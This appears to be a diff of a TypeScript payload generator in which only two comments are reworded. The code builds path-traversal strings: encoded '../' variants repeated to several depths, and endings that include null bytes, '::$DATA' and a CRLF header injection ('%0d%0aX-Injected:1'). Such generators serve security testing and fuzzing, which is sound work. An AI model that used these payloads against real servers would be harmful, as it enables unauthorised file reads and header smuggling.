@@ -1,4 +1,4 @@
-/** Ways to climb out of a folder that servers have fallen for: plain, encoded once and twice, over-long, mixed with backslashes, null bytes and parameters. */
+/** Path traversals that have worked on servers: plain, encoded once and twice, over-long, mixed with backslashes, null bytes and parameters. */
 const climbs = [
   '../',
   '..%2f',
@@ -33,7 +33,7 @@ const climbs = [
 ]
 const endings = ['', '%00', '%00.html', '%00.js', '?', '#', '/', '/.', '%20', '.', '::$DATA', ';.js', '%0a', '%0d%0aX-Injected:1']
 
-/** Every target behind one to six climbs, and with every ending. */
+/** Every target behind one to six `..`, and with every ending. */
 export function traversalsTo(targets: string[]): string[] {
   const paths = climbs.flatMap((climb) => [1, 3, 6].flatMap((depth) => targets.map((target) => climb.repeat(depth) + target)))
   return [
